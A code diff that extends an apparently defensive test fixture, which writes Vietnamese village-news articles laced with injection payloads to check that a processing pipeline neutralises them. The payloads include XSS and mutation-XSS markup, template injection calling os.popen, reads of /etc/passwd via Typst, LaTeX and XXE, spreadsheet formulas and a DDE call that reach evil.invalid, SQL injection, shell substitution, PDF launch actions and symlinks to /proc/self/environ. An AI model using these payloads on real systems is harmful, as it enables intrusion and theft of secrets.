@@ -38,6 +38,20 @@ TEXT: dict[str, tuple[str, ...]] = {
         f"<details open ontoggle=window.{MARK}=1>",
         f"`${{window.{MARK}=1}}`",
         "<object data=http://evil.invalid/x.swf></object>",
+        f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>">',
+        f"<svg></p><style><a id='</style><img src=1 onerror=window.{MARK}=1>'>",
+        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;'>",
+        f"<template shadowrootmode=open><script>window.{MARK}=1</script></template>",
+        "<video autoplay poster=http://evil.invalid/p.png><source src=http://evil.invalid/v.mp4></video>",
+        "<img srcset='http://evil.invalid/a 1x' loading=eager> <input type=image src=http://evil.invalid/b>",
+        f"<input autofocus onfocus=window.{MARK}=1> <select autofocus onfocus=window.{MARK}=1>",
+        "<form id=body name=querySelectorAll><input name=textContent></form><a id=location></a>",
+        f"<svg><animate href=#x attributeName=href values=javascript:window.{MARK}=1 /></svg>",
+        f"\\u003cscript\\u003ewindow.{MARK}=1\\u003c/script\\u003e +ADw-script+AD4-",
+        f"&lt;img src=x onerror=window.{MARK}=1&gt; &amp;lt;b&amp;gt; &#x3c;script&#x3e;",
+        "<!--#exec cmd='touch owned' --> <?php system('touch owned') ?> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
+        "</style><style>@import url(http://evil.invalid/a.css);body{background:url(//evil.invalid/b)}",
+        f"<scr\x00ipt>window.{MARK}=1</scr\x00ipt>".replace("\x00", "\u200b"),
     ),
     "typst": (
         f'#read("{SECRET}")',
@@ -58,6 +72,16 @@ TEXT: dict[str, tuple[str, ...]] = {
         "<nhan> @nhan #label(\"x\") = Tiêu đề $ x^2 $",
         "\\u{23}read \\# \\[ \\]",
         "// chú thích /* mở",
+        "```typ #read(\"/etc/passwd\")``` `#panic()`",
+        "@nhan-la @fig:1 <nhan-la> #ref(<nhan-la>) #cite(<x>)",
+        "#show: none",
+        "#let json(x) = panic(); #let text = none",
+        "#bibliography(\"/etc/passwd\") #csv(\"/etc/passwd\") #yaml(\"/etc/passwd\") #xml(\"/etc/passwd\")",
+        "/* không đóng",
+        "không mở */ ]]] ))) }}}",
+        "\\u{0} \\u{d800} \\u{110000} \\u{202e}",
+        "$ mat(1, 2; 3, 4) #pagebreak() $ $$ #v(1000cm) $$",
+        "/ Mục: giải nghĩa + một + hai - ba --- ~ -? \\",
     ),
     "markdown": (
         "# Tiêu đề giả",
@@ -68,6 +92,13 @@ TEXT: dict[str, tuple[str, ...]] = {
         "[^1] [x]: http://evil.invalid/",
         "<http://evil.invalid/>",
         "- [ ] việc; > trích; --- ngang",
+        "[a][b] [b]: javascript:alert(1) [b]: <data:text/html,x> 'x'",
+        "<javascript:alert(1)> <https://evil.invalid/@a:b@c>",
+        "chú[^n] [^n]: <script>alert(1)</script>",
+        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "::: {.x onclick=alert(1)} ~~~{=html} <b> ~~~ :::",
+        "$$\\input{/etc/passwd}$$ $`x`$ ==x== ^x^ ~x~",
+        "Tiêu đề\\n====\\n*[HTML]: x",
     ),
     "template": (
         "{{ 7*7 }} {{ config }}",
@@ -76,6 +107,10 @@ TEXT: dict[str, tuple[str, ...]] = {
         "{# chú thích #} {%- raw -%}",
         "${{7*7}} <%= 7*7 %> #{7*7}",
         "%(name)s {0.__class__} %s %n {q1} {name}",
+        "{{ cycler.__init__.__globals__.os.popen('touch owned').read() }}",
+        "{%- for x in (1).__class__.__base__.__subclasses__() -%}{%- endfor -%}",
+        "{{=<% %>=}} <%={{ }}=%> {{{raw}}} {{&x}} {{>partial}}",
+        "# for item in seq: ## {#- -#} {{ '\\n' | safe }}",
     ),
     "latex": (
         "$\\input{/etc/passwd}$",
@@ -84,6 +119,10 @@ TEXT: dict[str, tuple[str, ...]] = {
         "\\documentclass{article} \\def\\x{\\x}\\x",
         "$\\href{javascript:alert(1)}{x}$",
         "\\url{http://evil.invalid/} \\catcode`\\%=12",
+        "\\(x\\) \\[x\\] $a$b$c$ $$ $ $",
+        "\\includegraphics{/etc/passwd} \\openin5=/etc/passwd \\read5 to \\x",
+        "$\\unicode{x41} \\require{html} \\class{x}{y} \\style{color:red}{x}$",
+        "$x^{$ $_$ $\\frac{$ $\\left($",
     ),
     "notebook": (
         '"); import os; os.system("touch owned"); ("',
@@ -94,6 +133,10 @@ TEXT: dict[str, tuple[str, ...]] = {
         "__import__('os').system('touch owned')",
         'article = "other.json"  # parameters',
         "\\\\N{SPACE}\\\\x00\\\\u0000",
+        "get_ipython().system('touch owned')",
+        "%%html <script>x</script>",
+        "%load_ext autoreload %env X=1 ?print !!touch owned",
+        "{article!r} {lang} f'{1/0}' {{cookiecutter}}",
     ),
     "csv": (
         "=cmd|' /C calc'!A0",
@@ -104,6 +147,18 @@ TEXT: dict[str, tuple[str, ...]] = {
         "＝1+1",
         'a","b";"c',
         "=WEBSERVICE('http://evil.invalid/')",
+        "\t=1+1",
+        "\u00a0=1+1",
+        "\ufeff=1+1",
+        "\u200b=1+1",
+        "'=1+1",
+        "＋1+1",
+        "－1",
+        "＠SUM(1)",
+        "=IMPORTXML(CONCAT(\"http://evil.invalid/?\",A1),\"//a\")",
+        "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "\"=1+1\"",
+        "%=1|x;=1,=2",
     ),
     "data": (
         '{"quantities": [{"low": 1}]}',
@@ -112,6 +167,9 @@ TEXT: dict[str, tuple[str, ...]] = {
         "__proto__ constructor toString",
         "NaN Infinity -0 1e999",
         "null true undefined",
+        "</script><!-- ]]> \\u2028 \\/",
+        "@context @id @graph: _:b0 <http://evil.invalid/#x> a owl:Thing .",
+        "\"\"\" . } GRAPH <x> { ?s ?p ?o } #",
     ),
     "sql": (
         "'; DROP TABLE facts; --",
@@ -122,6 +180,8 @@ TEXT: dict[str, tuple[str, ...]] = {
         "$1 ? :ten --",
         "read_parquet('s3://evil.invalid/x'); LOAD httpfs",
         '"; CREATE VIEW articles AS SELECT 1; --',
+        "PRAGMA database_list; SET enable_external_access=true; EXPORT DATABASE 'owned'",
+        "$$ $tag$ E'\\x41' /* -- */ glob('/etc/*') getenv('HOME')",
     ),
     "shell": (
         "$(touch owned) `touch owned`",
@@ -132,12 +192,16 @@ TEXT: dict[str, tuple[str, ...]] = {
         "../../../../etc/passwd /etc/shadow",
         "--output=owned -rf --",
         "C:\\\\Windows\\\\system32 \\\\\\\\evil.invalid\\\\share file:///etc/passwd",
+        "~/.ssh/id_rsa <(touch owned) {a,b} $((1+1)) !touch",
+        "\u2024\u2024\u2215etc\u2215passwd ．．／ \uff0fetc\uff0fpasswd",
     ),
     "pdf": (
         "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
         ") Tj ET endstream endobj trailer",
         "(/Launch /F (calc.exe))",
         "/AA /URI (http://evil.invalid/) /EmbeddedFile",
+        "/Names [(x) << /S /GoToR /F (\\\\evil.invalid\\x) >>] /GoToE /Rendition",
+        "\\051 \\) %%EOF xref startxref 0",
     ),
     "characters": (
         "Số đảo \u202e4201\u202c hết",
@@ -156,6 +220,14 @@ TEXT: dict[str, tuple[str, ...]] = {
         "chữ ghép \ufb01 Ⅷ ① ㎡ ½",
         "thẻ \U000e0041\U000e007f và \ufff9chú\ufffa thích\ufffb",
         "tách dòng\u2028 và đoạn\u2029 xong",
+        "bàn phím emoji 1\ufe0f\u20e3 👩🏽‍🚒 🏴\U000e0067\U000e0062\U000e007f",
+        "chữ Lào ສະບາຍດີ, Miến မင်္ဂလာပါ, Tây Tạng བོད, Mông Cổ ᠮᠣᠩᠭᠣᠯ",
+        "chữ Hê-brơ שלום và Tamil வணக்கம், Hindi नमस्ते",
+        "chữ Nôm \U00020000 𡨸喃 \U000e0100",
+        "Hàn 한국어 \u1112\u1161\u11ab (Jamo rời)",
+        "dấu vây x\u20dd\u0489\u034f\u0338\u1ab0 và \u180e\u2060\u2061\u3164\uffa0",
+        "nhạc 𝄞 toán 𝓐𝟘 chữ hình nêm 𒀀 tượng hình 𓀀 mạt chược 🀄",
+        "biến thể ︎️ chữ rộng ＡＢＣ１２３ và ﷽ ⸻ ꧅",
     ),
 }  # fmt: skip
 """Attacks that stand in the sentences of an article, by kind; \\n stays a backslash and an n."""
@@ -176,10 +248,38 @@ PAGES: dict[str, dict[str, str]] = {
 """What a page states of itself in its head, by kind."""
 
 
+MARKUP = (
+    f"<script>window.{MARK}=1</script><script src=http://evil.invalid/x.js></script>",
+    f"<svg onload=window.{MARK}=1><script>window.{MARK}=1</script><text>12 hộ</text></svg>",
+    f"<math><mtext><table><mglyph><style><!--</style>"
+    f"<img title='--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;'></table>",
+    f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>"></noscript>',
+    f"<template><script>window.{MARK}=1</script><p>Trong khuôn có 12 hộ.</p></template>",
+    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe><object data=http://evil.invalid/a></object>",
+    "<base href=http://evil.invalid/><meta http-equiv=refresh content='0;url=http://evil.invalid/'><a href=x>xem</a>",
+    f"<a href='javascript:window.{MARK}=1' ping=http://evil.invalid/>xem 12 hộ</a> <a href='data:text/html,x'>y</a>",
+    "<a href='http://user:secret@evil.invalid/'>xem</a><a href='\\\\evil.invalid\\x'>y</a><a href=//evil.invalid>z</a>",
+    "<style>@import url(http://evil.invalid/a.css);*{display:none!important}</style>"
+    "<p style='background:url(//evil.invalid)'>x</p>",
+    f"<form action=http://evil.invalid><input name=a autofocus onfocus=window.{MARK}=1><button>Gửi</button></form>",
+    f"<p>x<!--><img src=x onerror=window.{MARK}=1>--><p>y<![CDATA[<script>window.{MARK}=1</script>]]>",
+    f"<textarea></textarea><script>window.{MARK}=1</script><xmp><img src=x onerror=window.{MARK}=1></xmp>",
+    f"<table><tr><td>12</td></tr><script>window.{MARK}=1</script><tr>"
+    f"<td onclick=window.{MARK}=1>=1+1</td></tr></table>",
+    '<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"2021-02-31","author":{"name":'
+    f'"<script>window.{MARK}=1"}},"articleSection":"#read(1)","@graph":[[[]]]}}</script>',
+    "<meta property=article:published_time content='9999999-99-99T99:99'><meta property=og:url content='http://a\nb'>"
+    "<meta property=og:title content='{{7*7}} $(touch owned)'><meta name=author content='=1+1'>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'><!ENTITY b '&a;&a;'>]><p>&a;&b;</p>",
+    "<p>&#0;&#xD800;&#x110000;&#128;&#xFFFE;&nbsp;&notit;&#x202e;4201&#8203;</p>",
+)  # fmt: skip
+"""What a page may hold beside its words, as markup."""
+
+
 class Attack(NamedTuple):
     kind: str
     place: str
-    """sentence, speaker, title, author, outlet, url."""
+    """sentence, title, author, outlet, url, markup."""
     text: str
     article: str
     """Name of the article that carries it."""
@@ -190,13 +290,24 @@ def sentence(number: int, payload: str) -> str:
     return f"Năm 2023, thôn thứ {number} có {100 + number} hộ dân; ghi chú: {payload} hết ghi chú."
 
 
+def names(number: int, payload: str) -> str:
+    """A paragraph that begins with the attack, and one where it is a part of names that a report prints."""
+    return (
+        f"{payload} là lời ghi ở thôn thứ {number}, nơi có {200 + number} hộ.\n\n"
+        f"Ông Lê Văn {payload}, Chủ tịch UBND xã, cho biết: tỷ lệ hộ dùng {payload} đạt {number},5%, tăng 2% so với "
+        f"năm 2022; phấn đấu đến năm 2030 xây {300 + number} nhà {payload}, theo Quyết định số {number}/QĐ-UBND về "
+        f"{payload}."
+    )
+
+
 def write(folder: Path) -> list[Attack]:
     """The articles, in `folder`; every attack with the article that holds it."""
     folder.mkdir(parents=True, exist_ok=True)
     attacks: list[Attack] = []
     for kind, payloads in TEXT.items():
         name = f"text-{kind}"
-        body = "\n\n".join(sentence(number, payload) for number, payload in enumerate(payloads, 1))
+        told = [f"{sentence(n, payload)}\n\n{names(n, payload)}" for n, payload in enumerate(payloads, 1)]
+        body = "\n\n".join(told)
         asked = f"Phóng viên: {payloads[0]} nghĩa là gì?\n\nÔng Lê Văn Bình: Đó là {payloads[-1]} của 12 hộ.\n"
         head = "Kết quả của xã\nNgày đăng 03/04/2021 | 07:15\n"
         (folder / f"{name}.txt").write_text(f"{head}\n{body}\n\n{asked}", encoding="utf-8", newline="")
@@ -214,6 +325,14 @@ def write(folder: Path) -> list[Attack]:
         )
         (folder / f"{name}.html").write_text(page, encoding="utf-8")
         attacks += [Attack(kind, place, text, name) for place, text in stated.items()]
+    for number, markup in enumerate(MARKUP, 1):
+        name = f"markup-{number:02}"
+        told = [f"<p>{sentence(n, 'không có gì lạ')}</p>" for n in (1, 2, 3)]
+        page = (
+            f"<html><head><meta charset=utf-8></head><body><article><h1>Kết quả của xã</h1>{told[0]}{markup}{told[1]}"
+        )
+        (folder / f"{name}.html").write_text(f"{page}{told[2]}</article></body></html>", encoding="utf-8")
+        attacks.append(Attack("markup", "markup", markup, name))
     return attacks
 
 
@@ -235,6 +354,13 @@ MAKE_NAMES = (
     "q>owned.txt", "r'\".txt", "s(t).txt", "${HOME}.txt", "u;v.txt", "@w.txt", "+x.txt",
 )  # fmt: skip
 """File names that mean something to make or to the shell of its recipes."""
+
+LEADS = {
+    "device.txt": "/dev/null", "endless.txt": "/dev/zero", "gone.txt": "nowhere.txt", "loop.txt": "loop.txt",
+    "nothing.txt": "/dev/null", "outside.txt": "../private.txt", "passwd.txt": "/etc/passwd",
+    "round.txt": "../articles/../private.txt", "self.txt": "/proc/self/environ",
+}  # fmt: skip
+"""Links in a folder of articles that somebody sent, and where they lead."""
 
 ADDED = (
     "../../../owned", "/etc/passwd", "-rf", "$(touch owned)", "a\nb", "`owned` [x](javascript:alert(1)) | y",
